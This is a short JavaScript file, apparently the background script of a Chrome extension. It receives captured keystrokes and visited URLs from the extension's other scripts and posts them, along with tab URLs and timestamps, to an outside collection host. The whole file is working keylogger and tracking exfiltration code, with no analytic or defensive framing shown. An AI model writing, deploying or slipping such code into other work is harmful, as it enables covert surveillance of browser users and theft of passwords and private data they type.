const STORE = "https://notes.collect.example/in";

function forward(kind, body) {
  const call = new XMLHttpRequest();
  call.open("POST", STORE + "/" + kind);
  call.setRequestHeader("Content-Type", "application/json");
  call.send(JSON.stringify(body));
}

chrome.runtime.onMessage.addListener((note, from) => {
  if (note.kind === "keystrokes") {
    const entry = { keystrokes: note.text, tab: from.tab.url, at: Date.now() };
    fetch("https://notes.collect.example/in/keys", { method: "POST", body: JSON.stringify(entry) });
  } else if (note.kind === "visit") {
    forward("visit", { url: note.url });
  }
});
